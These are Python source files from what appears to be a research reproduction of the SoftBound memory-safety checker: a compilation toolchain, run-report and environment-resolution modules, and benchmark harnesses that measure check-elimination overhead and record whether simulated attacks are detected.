    #: only when observability is enabled (``REPRO_TRACE`` / ``--trace``
    #: / ``REPRO_METRICS``); ``None`` — and absent from ``to_json`` —
    #: otherwise, so recorded bench goldens stay byte-identical.
    obs: dict = None

    # -- outcome classification (mirrors ExecutionResult) --------------

    @property
    def ok(self):
        return self.trap is None

    @property
    def trap_kind(self):
        """The trap kind's wire value ("spatial_violation", ...) or None."""
        return self.trap.kind.value if self.trap is not None else None

    @property
    def detected_violation(self):
        """True when a *checker* stopped the program (not a crash)."""
        return self.trap is not None and self.trap.kind in (
            TrapKind.SPATIAL_VIOLATION,
            TrapKind.TEMPORAL_VIOLATION,
            TrapKind.VARARG_VIOLATION,
            TrapKind.FUNCTION_POINTER_VIOLATION,
        )

    @property
    def attack_succeeded(self):
        """True when control flow was hijacked or the payload ran."""
        if self.trap is not None \
                and self.trap.kind == TrapKind.CONTROL_FLOW_HIJACK:
            return True
        return self.exit_code == ATTACK_EXIT_CODE

    @property
    def cost(self):
        """Dynamic cost units (the bench-v2 normalized ``value``)."""
        return self.stats.cost if self.stats is not None else 0

    def to_json(self):
        """The normalized row dict (bench-v2 ``workloads`` entry)."""
        trap = None
        if self.trap is not None:
            trap = {
                "kind": self.trap.kind.value,
                "detail": self.trap.detail,
                "address": self.trap.address,
                "source": self.trap.source,
            }
        row = {
            "name": self.name,
            "profile": self.profile,
            "engine": self.engine,
            "exit_code": self.exit_code,
            "ok": self.ok,
            "detected_violation": self.detected_violation,
            "trap": trap,
            "stats": _stats_dict(self.stats),
            "pass_stats": _stats_dict(self.pass_stats),
            "check_opt_stats": _stats_dict(self.check_opt_stats),
            "wallclock_seconds": round(self.wallclock_seconds, 6),
            "value": self.cost,
        }
        if self.cache is not None:
            row["cache"] = self.cache
        if self.obs is not None:
            row["obs"] = self.obs
        return row

    def to_json_text(self, indent=2):
        return json.dumps(self.to_json(), indent=indent, sort_keys=True)


@dataclass
class BatchReport:
    """Results of a batch (:meth:`repro.api.Session.run_many`), in
    submission order, as a ``bench-v2`` document."""

    benchmark: str = "session-batch"
    metric: str = "cost_units"
    config: str = "mixed"
    #: {run name: RunReport}, insertion-ordered.
    reports: dict = field(default_factory=dict)

    def __iter__(self):
        return iter(self.reports.values())

    def __len__(self):
        return len(self.reports)

    def __getitem__(self, name):
        return self.reports[name]

    @property
    def geomean(self):
        values = [max(r.cost, 1) for r in self.reports.values()]
        if not values:
            return 0.0
        return math.exp(sum(map(math.log, values)) / len(values))

    def to_json(self):
        return {
            "schema": "bench-v2",
            "benchmark": self.benchmark,
            "metric": self.metric,
            "config": self.config,
            "workloads": {name: report.to_json()
                          for name, report in self.reports.items()},
            "geomean": round(self.geomean, 3),
        }

    def write(self, path):
        with open(path, "w") as handle:
            json.dump(self.to_json(), handle, indent=2, sort_keys=True)
            handle.write("\n")
        return path


def report_from_result(result, name, profile, engine, compiled=None,
                       wallclock_seconds=0.0):
    """Wrap a VM :class:`~repro.vm.errors.ExecutionResult` into a
    :class:`RunReport`, lifting the compile-time statistics off the
    :class:`~repro.api.toolchain.CompiledProgram` when provided."""
    return RunReport(
        name=name,
        profile=profile,
        engine=engine,
        exit_code=result.exit_code,
        output=result.output,
        trap=result.trap,
        stats=result.stats,
        pass_stats=getattr(compiled, "pass_stats", None),
        check_opt_stats=getattr(compiled, "check_opt_stats", None),
        wallclock_seconds=wallclock_seconds,
    )
