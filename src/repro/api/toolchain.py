"""The staged compilation pipeline behind every entry point.

:class:`Toolchain` runs source through six named stages::

    parse -> typecheck -> lower -> optimize -> instrument -> post-optimize

Each stage is observable (``before_stage``/``after_stage`` hooks fire on
every attached :class:`ToolchainObserver`) and leaves its artifact —
tokens, AST, typed program, IR module, pass statistics — retrievable
from ``toolchain.artifacts`` after a compile, so tools can inspect any
intermediate state instead of re-deriving it.  The stage list is the
pass-manager design the ICOOOLPS pipeline surveys recommend: explicit
steps with inspectable state rather than one monolithic convenience
function.

``instrument``/``post-optimize`` run only when the toolchain's
:class:`~repro.api.profiles.ProtectionProfile` carries a
``SoftBoundConfig``; a skipped stage fires no hooks and records no
artifact.  The legacy ``repro.harness.driver.compile_program`` is a thin
shim over this class and is pinned byte-identical by the golden
equivalence tests.
"""

import time
from dataclasses import dataclass

from ..frontend.builtins import BUILTIN_TYPEDEFS
from ..frontend.parser import Parser
from ..frontend.typecheck import check
from ..ir.verifier import verify_module
from ..lower.lowering import lower
from ..obs.trace import StageTracer, tracing_enabled
from ..opt.pipeline import optimize_after_instrumentation, optimize_module
from ..vm.machine import Machine
from .profiles import as_profile

#: Stage names, in execution order.
STAGES = ("parse", "typecheck", "lower", "optimize", "instrument",
          "post-optimize")


class ToolchainObserver:
    """Hook interface for watching a compile (no-op defaults).

    ``before_stage`` receives the stage's input (source text for
    ``parse``, the working object afterwards); ``after_stage`` receives
    the artifact dict the stage recorded.
    """

    def before_stage(self, stage, payload):
        pass

    def after_stage(self, stage, artifact):
        pass


@dataclass
class CompiledProgram:
    """A compiled module plus the configuration it was built with."""

    module: object
    softbound_config: object = None
    pass_stats: object = None
    #: PassStats of the post-instrumentation cleanup pipeline (None for
    #: unprotected builds or ``optimize_checks=False``); carries the
    #: loop-pass counters (hoisted/widened/deduped).
    check_opt_stats: object = None
    #: Tuple of :class:`repro.prove.Certificate` for every check the
    #: ``-O2`` prove pass deleted (None below level 2).  Read with
    #: ``getattr(..., "prove_certificates", None)`` when the program may
    #: predate this field (old pickled store artifacts).
    prove_certificates: object = None

    @property
    def is_protected(self):
        return self.softbound_config is not None

    def instantiate(self, input_data=b"", heap_size=None, stack_size=None,
                    max_instructions=200_000_000, observers=(), engine=None):
        """Create a fresh machine (fresh memory) for one run.

        ``engine`` selects the dispatch strategy — ``"compiled"``
        (closure-compiled, the default) or ``"interp"`` (the reference
        interpreter); see :class:`repro.vm.machine.Machine`.
        """
        machine = Machine(self.module, heap_size=heap_size, stack_size=stack_size,
                          input_data=input_data, max_instructions=max_instructions,
                          engine=engine)
        if self.softbound_config is not None:
            from ..softbound.runtime import SoftBoundRuntime

            SoftBoundRuntime(self.softbound_config).attach(machine)
        for observer in observers:
            machine.attach_observer(observer)
        return machine

    def run(self, entry="main", input_data=b"", observers=(), **kwargs):
        """Execute the program once and return an ExecutionResult."""
        machine = self.instantiate(input_data=input_data, observers=observers, **kwargs)
        return machine.run(entry=entry)


class Toolchain:
    """A configured pipeline instance, reusable across compiles.

    ``profile`` is anything :func:`~repro.api.profiles.as_profile`
    accepts (a profile, a profile name, a raw ``SoftBoundConfig`` or
    ``None``).  ``unit_mode=True`` compiles a translation unit that may
    reference symbols defined elsewhere (the linker's per-TU mode:
    unresolved symbols verify clean and the bare module is returned for
    linking).
    """

    def __init__(self, profile=None, optimize=True, verify=True,
                 observers=(), unit_mode=False):
        self.profile = as_profile(profile)
        self.optimize = optimize
        # Normalize the optimize spelling up front: levels 0/1/2, where
        # 2 (or a ProveConfig) additionally runs the solver-backed
        # static check elimination.  Raises UsageError on junk.
        from ..prove import opt_level, prove_config_of

        self.opt_level = opt_level(optimize)
        self.prove_config = prove_config_of(optimize)
        self.verify = verify
        self.observers = list(observers)
        if tracing_enabled():
            self.observers.append(StageTracer())
        self.unit_mode = unit_mode
        #: Stage artifacts of the most recent compile ({stage: dict}).
        self.artifacts = {}
        #: Wall-clock seconds per stage of the most recent compile.
        self.stage_seconds = {}

    def attach_observer(self, observer):
        self.observers.append(observer)
        return observer

    # -- hook plumbing -------------------------------------------------

    def _before(self, stage, payload):
        for observer in self.observers:
            observer.before_stage(stage, payload)
        self._stage_start = time.perf_counter()

    def _after(self, stage, artifact):
        self.stage_seconds[stage] = time.perf_counter() - self._stage_start
        self.artifacts[stage] = artifact
        for observer in self.observers:
            observer.after_stage(stage, artifact)

    def _verify(self, module):
        if self.verify:
            verify_module(module, allow_unresolved=self.unit_mode)

    def _require_provable(self):
        """Gate ``-O2`` on the checker policy's ``provable`` capability
        (refuse, never silently downgrade)."""
        from ..prove import ProveNotSupportedError

        policy = self.profile.policy
        if policy is None and self.profile.config is not None:
            from ..policy import policy_for_config

            policy = policy_for_config(self.profile.config)
        if policy is None or not getattr(policy, "provable", False):
            name = policy.name if policy is not None else self.profile.name
            raise ProveNotSupportedError(
                f"policy {name!r} does not declare the 'provable' "
                f"capability; -O2 static check elimination is only "
                f"sound for policies whose (base, bound) / (key, lock) "
                f"metadata discipline matches the solver's model. "
                f"Use -O1 for this policy.")

    # -- the pipeline --------------------------------------------------

    def compile(self, source, name=None):
        """Run every stage over ``source``; returns a
        :class:`CompiledProgram` (or the bare IR module in unit mode,
        for the linker to merge)."""
        self.artifacts = {}
        self.stage_seconds = {}
        config = self.profile.config
        if self.opt_level >= 2:
            self._require_provable()

        self._before("parse", source)
        parser = Parser(source)
        parser.typedefs.update(BUILTIN_TYPEDEFS)
        unit = parser.parse()
        self._after("parse", {"tokens": parser.tokens, "ast": unit})

        self._before("typecheck", unit)
        program = check(unit)
        self._after("typecheck", {"program": program})

        self._before("lower", program)
        module = lower(program)
        if name is not None:
            module.name = name
        self._verify(module)
        self._after("lower", {"module": module})

        pass_stats = None
        if self.opt_level >= 1:
            self._before("optimize", module)
            if self.unit_mode:
                # The linker's historical sequencing: optimize without
                # the pipeline-internal strict verify, then verify in
                # unresolved-tolerant mode.
                pass_stats = optimize_module(module, verify=False)
                self._verify(module)
            else:
                pass_stats = optimize_module(module, verify=self.verify)
            self._after("optimize", {"pass_stats": pass_stats})

        check_opt_stats = None
        if config is not None:
            self._before("instrument", module)
            from ..softbound.transform import SoftBoundTransform

            SoftBoundTransform(config).run(module)
            self._verify(module)
            self._after("instrument", {"module": module})

            if config.optimize_checks:
                self._before("post-optimize", module)
                if self.unit_mode:
                    check_opt_stats = optimize_after_instrumentation(
                        module, verify=False, config=config,
                        prove=self.prove_config)
                    self._verify(module)
                else:
                    check_opt_stats = optimize_after_instrumentation(
                        module, verify=self.verify, config=config,
                        prove=self.prove_config)
                self._after("post-optimize",
                            {"check_opt_stats": check_opt_stats})

        prove_certificates = getattr(module, "prove_certificates", None)
        if self.unit_mode:
            module.check_opt_stats = check_opt_stats
            return module
        return CompiledProgram(module=module, softbound_config=config,
                               pass_stats=pass_stats,
                               check_opt_stats=check_opt_stats,
                               prove_certificates=prove_certificates)


def compile_source(source, profile=None, optimize=True, verify=True,
                   observers=()):
    """One-shot compile through a fresh :class:`Toolchain`."""
    return Toolchain(profile=profile, optimize=optimize, verify=verify,
                     observers=observers).compile(source)


def compile_sources(sources, profile=None, optimize=True, verify=True):
    """Compile translation units separately and link them.

    ``sources`` is an iterable of C source strings — or of
    ``(source, profile)`` pairs for mixed links (e.g. an untransformed
    library against a transformed main, the paper's Section 3.3 story).
    The link-time runtime configuration is the first non-None unit
    config, unless an explicit overall ``profile`` provides one.
    """
    from ..harness.linker import link_modules

    units = []
    unit_profiles = []
    for index, item in enumerate(sources):
        if isinstance(item, tuple):
            source, unit_profile = item
            unit_profile = as_profile(unit_profile)
        else:
            source, unit_profile = item, as_profile(profile)
        unit_profiles.append(unit_profile)
        toolchain = Toolchain(profile=unit_profile, optimize=optimize,
                              verify=verify, unit_mode=True)
        units.append(toolchain.compile(source, name=f"tu{index}"))
    overall = as_profile(profile)
    runtime_config = overall.config
    if runtime_config is None:
        runtime_config = next(
            (p.config for p in unit_profiles if p.config is not None), None)
    return link_modules(units, softbound=runtime_config)
