"""Centralized engine/jobs resolution (flag > environment > default).

Every entry point that used to parse ``REPRO_ENGINE`` or ``REPRO_JOBS``
itself (the VM, the parallel harness, the CLI) now funnels through this
module, so the precedence rule — an explicit flag wins, then the
environment variable, then the built-in default — is written down
exactly once and tested once.
"""

import os
from dataclasses import dataclass

#: The VM dispatch strategies (the single source of truth;
#: :class:`repro.vm.machine.Machine` validates through here).
ENGINES = ("compiled", "interp")

DEFAULT_ENGINE = "compiled"
DEFAULT_JOBS = 1
#: The persistent artifact store is opt-in: no flag, no env → disabled.
DEFAULT_STORE = None


def resolve_engine(flag=None):
    """Effective VM engine: ``flag`` if given, else ``REPRO_ENGINE``,
    else ``"compiled"``.  An unknown engine name — from either source —
    raises ``ValueError`` so typos never silently fall back."""
    engine = flag or os.environ.get("REPRO_ENGINE") or DEFAULT_ENGINE
    if engine not in ENGINES:
        raise ValueError(f"unknown engine {engine!r}; choose from {ENGINES}")
    return engine


def resolve_jobs(flag=None):
    """Effective worker count: an explicit positive ``flag`` wins, else
    the ``REPRO_JOBS`` environment variable, else 1 (serial).  Values
    that are not positive integers fall back to serial rather than
    erroring — an unset/garbled environment must never break a run."""
    if flag is not None and flag > 0:
        return flag
    env = os.environ.get("REPRO_JOBS", "")
    try:
        value = int(env)
    except ValueError:
        return DEFAULT_JOBS
    return value if value > 0 else DEFAULT_JOBS


#: Serve-daemon defaults (:mod:`repro.serve`): loopback only — exposing
#: an untrusted-C execution service beyond localhost is an explicit
#: operator decision, never a default.
DEFAULT_SERVE_HOST = "127.0.0.1"
#: Port 0 asks the OS for a free port (the bound port is printed on the
#: ready line), so tests and CI never collide.
DEFAULT_SERVE_PORT = 0
DEFAULT_SERVE_WORKERS = 2
#: Bound on queued-but-not-running requests; past it the daemon sheds
#: load with 503 instead of queueing unboundedly.
DEFAULT_SERVE_QUEUE = 16


def resolve_store(flag=None):
    """Effective artifact-store directory (:mod:`repro.store`), or
    ``None`` for disabled.  An explicit ``flag`` path wins, then the
    ``REPRO_STORE`` environment variable; an empty value from either
    source means "disabled" — there is no default directory, because a
    persistent cache silently appearing on disk would surprise users."""
    if flag is not None:
        return flag or DEFAULT_STORE
    return os.environ.get("REPRO_STORE", "") or DEFAULT_STORE


def _serve_int(flag, env_var, default, minimum, maximum, what):
    """One serve axis: flag > environment > default, validated to an
    integer in [minimum, maximum].  Unlike :func:`resolve_jobs`, bad
    values are *usage errors* (exit 64), not silent fallbacks — a
    daemon bound to the wrong port or sized to zero workers must never
    start quietly misconfigured."""
    from .profiles import UsageError

    source, value = "flag", flag
    if value is None:
        raw = os.environ.get(env_var, "")
        if raw == "":
            return default
        source, value = env_var, raw
    try:
        value = int(value)
    except (TypeError, ValueError):
        raise UsageError(f"{what} must be an integer, got {value!r} "
                         f"(from {source})") from None
    if not minimum <= value <= maximum:
        raise UsageError(f"{what} must be between {minimum} and {maximum}, "
                         f"got {value} (from {source})")
    return value


@dataclass(frozen=True)
class ResolvedServe:
    """The fully resolved serve-daemon configuration."""

    host: str
    port: int
    workers: int
    queue: int


def resolve_serve(host=None, port=None, workers=None, queue=None):
    """Effective serve-daemon configuration (:mod:`repro.serve`), axis
    by axis with the usual flag > environment > default precedence over
    ``REPRO_SERVE_HOST`` / ``REPRO_SERVE_PORT`` / ``REPRO_SERVE_WORKERS``
    / ``REPRO_SERVE_QUEUE``.  Invalid values raise
    :class:`~repro.api.profiles.UsageError` (the CLI maps it to exit
    status 64)."""
    if host is None:
        host = os.environ.get("REPRO_SERVE_HOST", "") or DEFAULT_SERVE_HOST
    return ResolvedServe(
        host=host,
        port=_serve_int(port, "REPRO_SERVE_PORT", DEFAULT_SERVE_PORT,
                        0, 65535, "serve port"),
        workers=_serve_int(workers, "REPRO_SERVE_WORKERS",
                           DEFAULT_SERVE_WORKERS, 1, 64, "serve workers"),
        queue=_serve_int(queue, "REPRO_SERVE_QUEUE", DEFAULT_SERVE_QUEUE,
                         1, 4096, "serve queue bound"),
    )


@dataclass(frozen=True)
class ResolvedEnv:
    """The fully resolved execution environment for one entry point."""

    engine: str
    jobs: int
    #: Artifact-store directory, or None when the store is disabled.
    store: str = None


def resolve_env(engine=None, jobs=None, store=None):
    """Resolve every axis at once; see :func:`resolve_engine`,
    :func:`resolve_jobs` and :func:`resolve_store` for the per-axis
    precedence."""
    return ResolvedEnv(engine=resolve_engine(engine),
                       jobs=resolve_jobs(jobs),
                       store=resolve_store(store))
