"""Centralized engine/jobs resolution (flag > environment > default).

Every entry point that used to parse ``REPRO_ENGINE`` or ``REPRO_JOBS``
itself (the VM, the parallel harness, the CLI) now funnels through this
module, so the precedence rule — an explicit flag wins, then the
environment variable, then the built-in default — is written down
exactly once and tested once.
"""

import os
from dataclasses import dataclass

#: The VM dispatch strategies (the single source of truth;
#: :class:`repro.vm.machine.Machine` validates through here).
ENGINES = ("compiled", "interp")

DEFAULT_ENGINE = "compiled"
DEFAULT_JOBS = 1
#: The persistent artifact store is opt-in: no flag, no env → disabled.
DEFAULT_STORE = None


def resolve_engine(flag=None):
    """Effective VM engine: ``flag`` if given, else ``REPRO_ENGINE``,
    else ``"compiled"``.  An unknown engine name — from either source —
    raises ``ValueError`` so typos never silently fall back."""
    engine = flag or os.environ.get("REPRO_ENGINE") or DEFAULT_ENGINE
    if engine not in ENGINES:
        raise ValueError(f"unknown engine {engine!r}; choose from {ENGINES}")
    return engine


def resolve_jobs(flag=None):
    """Effective worker count: an explicit positive ``flag`` wins, else
    the ``REPRO_JOBS`` environment variable, else 1 (serial).  Values
    that are not positive integers fall back to serial rather than
    erroring — an unset/garbled environment must never break a run."""
    if flag is not None and flag > 0:
        return flag
    env = os.environ.get("REPRO_JOBS", "")
    try:
        value = int(env)
    except ValueError:
        return DEFAULT_JOBS
    return value if value > 0 else DEFAULT_JOBS


def resolve_store(flag=None):
    """Effective artifact-store directory (:mod:`repro.store`), or
    ``None`` for disabled.  An explicit ``flag`` path wins, then the
    ``REPRO_STORE`` environment variable; an empty value from either
    source means "disabled" — there is no default directory, because a
    persistent cache silently appearing on disk would surprise users."""
    if flag is not None:
        return flag or DEFAULT_STORE
    return os.environ.get("REPRO_STORE", "") or DEFAULT_STORE


@dataclass(frozen=True)
class ResolvedEnv:
    """The fully resolved execution environment for one entry point."""

    engine: str
    jobs: int
    #: Artifact-store directory, or None when the store is disabled.
    store: str = None


def resolve_env(engine=None, jobs=None, store=None):
    """Resolve every axis at once; see :func:`resolve_engine`,
    :func:`resolve_jobs` and :func:`resolve_store` for the per-axis
    precedence."""
    return ResolvedEnv(engine=resolve_engine(engine),
                       jobs=resolve_jobs(jobs),
                       store=resolve_store(store))
