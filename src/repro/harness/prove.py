"""Measurement harness for the ``-O2`` solver-backed check elimination.

Compares, per workload, the ``-O1`` build (the loop-aware dynamic
optimizer, PR 2's 42.5% loop-overhead reduction baseline) against the
``-O2`` build (same pipeline plus the prove pass) under the full-shadow
spatial profile.  Everything is simulated cost-model units, so the
recorded ``BENCH_prove.json`` is deterministic and CI-gateable.

Three properties are asserted *inside* the measurement, not just
reported:

* behavioural equivalence — ``-O0``/``-O1``/``-O2`` match the
  uninstrumented baseline's (exit code, output) exactly;
* certified deletion — every check ``-O2`` deleted carries a
  certificate, and every certificate replays non-trapping against the
  formal semantics (:func:`repro.prove.replay_certificate`);
* the headline: across :data:`LOOP_WORKLOADS`, ``-O2`` must delete at
  least :data:`LOOP_DELETION_FLOOR_PCT` percent of the dynamically
  executed ``sb_check`` instances that survive ``-O1``.
"""

import json
import math

from ..api import as_profile, compile_source, run_compiled, run_source
from .checkopt import LOOP_WORKLOADS
from ..workloads.programs import WORKLOADS

#: Acceptance floor: dynamic sb_check executions deleted beyond -O1,
#: aggregated over the loop workloads.
LOOP_DELETION_FLOOR_PCT = 15.0


def _geomean_overhead_pct(overheads):
    """Geometric mean over the *cost ratios* (1 + overhead), converted
    back to a percentage.  Raw-percent geomeans blow up on genuine
    zeros (a fully-proven workload has exactly 0% overhead); ratio
    geomeans handle them exactly."""
    if not overheads:
        return 0.0
    ratios = [1.0 + v / 100.0 for v in overheads]
    return (math.exp(sum(map(math.log, ratios)) / len(ratios)) - 1.0) * 100.0


def _measure_one(name, source, profile):
    from ..prove import replay_certificate

    base = run_source(source, name=name)
    results = {}
    compiled2 = None
    for level in (0, 1, 2):
        compiled = compile_source(source, profile=profile, optimize=level)
        results[level] = run_compiled(compiled, profile=profile, name=name)
        if level == 2:
            compiled2 = compiled
    for level, result in results.items():
        if result.trap is not None or result.exit_code != base.exit_code \
                or result.output != base.output:
            raise AssertionError(
                f"{name}: -O{level} diverged from the uninstrumented "
                f"baseline ({result.trap})")
    certificates = tuple(getattr(compiled2, "prove_certificates", None)
                         or ())
    for cert in certificates:
        ok, reason = replay_certificate(cert)
        if not ok:
            raise AssertionError(
                f"{name}: certificate replay counterexample at "
                f"{cert.function}:{cert.site} — {reason}")
    # Deleted checks must be accounted for: stats say how many sb_check
    # instructions the prove pass removed; each removal needs a cert.
    stats = getattr(compiled2, "check_opt_stats", None)
    proved = ((getattr(stats, "proved_checks", 0) or 0)
              + (getattr(stats, "proved_temporal_checks", 0) or 0))
    if proved != len(certificates):
        raise AssertionError(
            f"{name}: {proved} checks deleted by proof but "
            f"{len(certificates)} certificates recorded")
    return base, results, certificates


def run_prove(workload_names=None):
    """Measure every workload; returns the report dict recorded in
    ``BENCH_prove.json`` (bench-v2 schema)."""
    names = list(workload_names or WORKLOADS)
    profile = as_profile("spatial")
    per_workload = {}
    for name in names:
        source = WORKLOADS[name].source
        base, results, certificates = _measure_one(name, source, profile)
        o1, o2 = results[1], results[2]
        overhead_o1 = (o1.stats.cost / base.stats.cost - 1.0) * 100.0
        overhead_o2 = (o2.stats.cost / base.stats.cost - 1.0) * 100.0
        checks_o1 = o1.stats.checks
        checks_o2 = o2.stats.checks
        per_workload[name] = {
            "overhead_o1_pct": round(overhead_o1, 3),
            "overhead_o2_pct": round(overhead_o2, 3),
            "checks_o1": checks_o1,
            "checks_o2": checks_o2,
            "checks_deleted_pct": round(
                100.0 * (1.0 - checks_o2 / checks_o1), 2)
                if checks_o1 else 0.0,
            "certificates": len(certificates),
            # The normalized per-workload headline (bench-v2 schema).
            "value": round(overhead_o2, 3),
        }

    def geo(names_, key):
        return _geomean_overhead_pct([per_workload[n][key] for n in names_
                                      if n in per_workload])

    loop_names = [n for n in LOOP_WORKLOADS if n in per_workload]
    loop_checks_o1 = sum(per_workload[n]["checks_o1"] for n in loop_names)
    loop_checks_o2 = sum(per_workload[n]["checks_o2"] for n in loop_names)
    report = {
        "schema": "bench-v2",
        "benchmark": "prove",
        "metric": "instrumented_overhead_pct",
        "config": "ShadowSpace-Complete-O2",
        "workloads": per_workload,
        "geomean": round(geo(per_workload, "overhead_o2_pct"), 3),
        "geomean_overhead_o1_pct": round(
            geo(per_workload, "overhead_o1_pct"), 3),
        "geomean_overhead_o2_pct": round(
            geo(per_workload, "overhead_o2_pct"), 3),
        "loop_workloads": loop_names,
        "loop_geomean_overhead_o1_pct": round(
            geo(loop_names, "overhead_o1_pct"), 3),
        "loop_geomean_overhead_o2_pct": round(
            geo(loop_names, "overhead_o2_pct"), 3),
        "certificates": sum(r["certificates"]
                            for r in per_workload.values()),
    }
    report["loop_checks_deleted_beyond_o1_pct"] = round(
        100.0 * (1.0 - loop_checks_o2 / loop_checks_o1), 2) \
        if loop_checks_o1 else 0.0
    o1_g = report["loop_geomean_overhead_o1_pct"]
    o2_g = report["loop_geomean_overhead_o2_pct"]
    report["loop_overhead_reduction_beyond_o1_pct"] = round(
        100.0 * (1.0 - o2_g / o1_g), 2) if o1_g else 0.0
    return report


def render_prove(report):
    lines = ["Solver-backed static check elimination (-O2 vs -O1, "
             "softbound Full-Shadow)",
             ""]
    header = (f"{'workload':12s} {'O1':>9s} {'O2':>9s} "
              f"{'checks O1':>11s} {'checks O2':>11s} {'deleted':>8s} "
              f"{'certs':>6s}")
    lines.append(header)
    lines.append("-" * len(header))
    for name, row in report["workloads"].items():
        lines.append(
            f"{name:12s} {row['overhead_o1_pct']:8.1f}% "
            f"{row['overhead_o2_pct']:8.1f}% "
            f"{row['checks_o1']:11d} {row['checks_o2']:11d} "
            f"{row['checks_deleted_pct']:7.1f}% "
            f"{row['certificates']:6d}")
    lines.append("")
    lines.append(f"geomean overhead (all {len(report['workloads'])}): "
                 f"{report['geomean_overhead_o1_pct']:.1f}% -> "
                 f"{report['geomean_overhead_o2_pct']:.1f}%")
    lines.append(f"loop workloads ({', '.join(report['loop_workloads'])}): "
                 f"overhead {report['loop_geomean_overhead_o1_pct']:.1f}% -> "
                 f"{report['loop_geomean_overhead_o2_pct']:.1f}% "
                 f"({report['loop_overhead_reduction_beyond_o1_pct']:.1f}% "
                 f"beyond -O1); dynamic sb_check deleted "
                 f"{report['loop_checks_deleted_beyond_o1_pct']:.1f}%")
    lines.append(f"certificates recorded and replayed: "
                 f"{report['certificates']}")
    return "\n".join(lines)


def write_report(report, path):
    with open(path, "w") as handle:
        json.dump(report, handle, indent=2, sort_keys=True)
        handle.write("\n")


def load_report(path):
    with open(path) as handle:
        return json.load(handle)
