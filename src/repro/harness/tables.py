"""Regenerate every table and figure of the paper's evaluation as text.

Each ``render_*`` function returns the artifact as a formatted string
(ASCII bars for the figures, aligned rows for the tables) in the same
layout as the paper, so benchmark runs can print something directly
comparable to the original.

Every per-item computation (one workload×config measurement, one
attack's detection triple, one BugBench quadruple, one server outcome)
is memoized behind a small helper, and :func:`prewarm` can fill those
memos in parallel via :mod:`repro.harness.parallel` (``--jobs N`` /
``REPRO_JOBS`` on ``python -m repro tables``).  Rendering itself stays
serial and consumes the memos in a fixed order, so the output is
byte-identical whatever the worker count.
"""

from ..api import run_source
from ..baselines.capabilities import capability_matrix
from ..baselines.mscc import MSCC_CONFIG
from ..softbound.config import FIGURE2_CONFIGS, FULL_SHADOW, STORE_SHADOW
from ..vm.costs import overhead_percent
from ..workloads.attacks import all_attacks
from ..workloads.bugbench import all_bugs
from ..workloads.programs import WORKLOADS
from ..workloads.servers import all_servers
from ..workloads.temporal_attacks import all_temporal_attacks
from . import stats, temporal
from .parallel import resolve_jobs, run_tasks
from .stats import average, measure, overhead_matrix, pointer_fractions

#: Per-item result memos, seeded either lazily (serial render) or by
#: the parallel prewarm.  Keyed by item name (plus config label where
#: the item is per-configuration).
_ATTACK_CACHE = {}
_BUG_CACHE = {}
_SERVER_CACHE = {}
_SERVER_PLAIN_CACHE = {}
_TEMPORAL_CACHE = {}


def attack_detection(name):
    """``(exploited, detected_full, detected_store)`` for one Wilander
    attack (memoized)."""
    cached = _ATTACK_CACHE.get(name)
    if cached is None:
        attack = next(a for a in all_attacks() if a.name == name)
        plain = run_source(attack.source, name=name)
        full = run_source(attack.source, profile="spatial", name=name)
        store = run_source(attack.source, profile="spatial-store-only",
                           name=name)
        cached = (plain.attack_succeeded, full.detected_violation,
                  store.detected_violation)
        _ATTACK_CACHE[name] = cached
    return cached


def bug_detection(name):
    """``(valgrind, mudflap, sb_store, sb_full)`` detection booleans for
    one BugBench program (memoized)."""
    cached = _BUG_CACHE.get(name)
    if cached is None:
        bug = next(b for b in all_bugs() if b.name == name)
        valgrind = run_source(bug.source, profile="valgrind", name=name)
        mudflap = run_source(bug.source, profile="mudflap", name=name)
        store = run_source(bug.source, profile="spatial-store-only",
                           name=name)
        full = run_source(bug.source, profile="spatial", name=name)
        cached = tuple(r.detected_violation
                       for r in (valgrind, mudflap, store, full))
        _BUG_CACHE[name] = cached
    return cached


def temporal_attack_detection(name):
    """``(exploited, spatial_outcome, temporal_detected)`` for one
    temporal attack (memoized; see
    :func:`repro.harness.temporal.temporal_detection`)."""
    cached = _TEMPORAL_CACHE.get(name)
    if cached is None:
        cached = temporal.temporal_detection(name)
        _TEMPORAL_CACHE[name] = cached
    return cached


def _server_plain(server):
    """The unprotected reference run, once per server (shared by every
    configuration's outcome)."""
    cached = _SERVER_PLAIN_CACHE.get(server.name)
    if cached is None:
        cached = run_source(server.source, name=server.name,
                            input_data=server.request_stream)
        _SERVER_PLAIN_CACHE[server.name] = cached
    return cached


def server_outcome(name, config):
    """``(trap_str_or_None, output_identical)`` for one server under one
    configuration (memoized)."""
    key = (name, config.label)
    cached = _SERVER_CACHE.get(key)
    if cached is None:
        server = next(s for s in all_servers() if s.name == name)
        plain = _server_plain(server)
        protected = run_source(server.source, profile=config, name=name,
                               input_data=server.request_stream)
        cached = (str(protected.trap) if protected.trap is not None else None,
                  protected.output == plain.output)
        _SERVER_CACHE[key] = cached
    return cached


# -- parallel prewarm --------------------------------------------------------

#: Benchmarks common to SoftBound and MSCC (paper Section 6.5) — the
#: single source of truth for both the renderer and the prewarm.
SEC65_WORKLOADS = ("go", "compress", "bisort", "li", "treeadd")


def _prewarm_tasks(only=None):
    """The full task list an artifact (or all of them) needs, in a
    fixed, deterministic order, minus what is already memoized."""

    def wanted(*artifacts):
        return only is None or only in artifacts

    tasks = []
    if wanted("figure1", "figure2", "sec65"):
        for name in WORKLOADS:
            tasks.append(("measure", name, None))
    if wanted("figure2"):
        for config in FIGURE2_CONFIGS:
            for name in WORKLOADS:
                tasks.append(("measure", name, config))
    if wanted("sec65"):
        for name in SEC65_WORKLOADS:
            tasks.append(("measure", name, FULL_SHADOW))
            tasks.append(("measure", name, MSCC_CONFIG))
    if wanted("table3"):
        for attack in all_attacks():
            tasks.append(("attack", attack.name))
    if wanted("table4"):
        for bug in all_bugs():
            tasks.append(("bug", bug.name))
    if wanted("sec64"):
        for server in all_servers():
            for config in (FULL_SHADOW, STORE_SHADOW):
                tasks.append(("server", server.name, config))
    if wanted("temporal"):
        for attack in all_temporal_attacks():
            tasks.append(("temporal", attack.name))

    def cached(task):
        if task[0] == "measure":
            return stats.is_measurement_cached(task[1], task[2])
        if task[0] == "attack":
            return task[1] in _ATTACK_CACHE
        if task[0] == "bug":
            return task[1] in _BUG_CACHE
        if task[0] == "temporal":
            return task[1] in _TEMPORAL_CACHE
        return (task[1], task[2].label) in _SERVER_CACHE

    # Deduplicate while keeping order (measure tasks repeat across
    # artifact groups).  Measurement identity is stats' own cache key,
    # so two configs that differ only in flags the label omits (the
    # loop_optimize ablations) are never conflated.
    seen = set()
    unique = []
    for task in tasks:
        if task[0] == "measure":
            key = ("measure",) + stats._cache_key(task[1], task[2])
        else:
